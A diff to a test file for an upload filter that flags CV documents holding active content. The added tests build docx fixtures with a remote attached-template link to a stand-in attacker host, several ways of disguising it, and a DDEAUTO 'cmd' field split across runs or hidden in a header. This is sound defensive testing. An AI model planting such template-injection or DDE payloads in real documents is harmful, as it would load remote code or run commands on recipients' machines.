@@ -131,6 +131,36 @@ describe("refuses what acts", () => {
     expect(await code(bytes, "cv.pdf")).toBe("file-active");
   });
 
+  const settings = "word/_rels/settings.xml.rels";
+  const attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
+  test.each([
+    [
+      "quoted otherwise",
+      `<Relationships><Relationship Type='${attached}' Target='https://voleur.example/t' TargetMode='External'/></Relationships>`,
+    ],
+    [
+      "written with codes",
+      `<Relationships><Relationship Type="${attached}" Target="x" TargetMode="Extern&#97;l"/></Relationships>`,
+    ],
+    [
+      "with a prefix",
+      `<r:Relationships><r:Relationship Type="${attached}" Target="a>b" TargetMode="External"/></r:Relationships>`,
+    ],
+    ["in another encoding", Buffer.from(`\ufeff<Relationships TargetMode="External"/>`, "utf16le")],
+  ])("a template from elsewhere, %s", async (_what, content) => {
+    expect(await code(makeDocx(line, [{ name: settings, content }]), "cv.docx")).toBe("file-active");
+  });
+
+  test("a field that is cut over runs, or stands in a header; not a link to a page about imports", async () => {
+    const cut =
+      "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText></w:r></w:p>";
+    expect(await code(makeDocx(line, [], { extra: cut }), "cv.docx")).toBe("file-active");
+    const header = { name: "word/header1.xml", content: `<w:hdr>${cut}</w:hdr>` };
+    expect(await code(makeDocx(line, [header]), "cv.docx")).toBe("file-active");
+    const link = '<w:p><w:instrText> HYPERLINK "https://exemple.fr/import" </w:instrText></w:p>';
+    expect(await code(makeDocx(line, [], { extra: link }), "cv.docx")).toBe("docx");
+  });
+
   test("objects that are packed in another way than every writer packs them", async () => {
     const hidden = makePdfWith("<< /S /JavaScript >>", { isHidden: true }).toString("latin1");
     const twice = hidden.replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]");
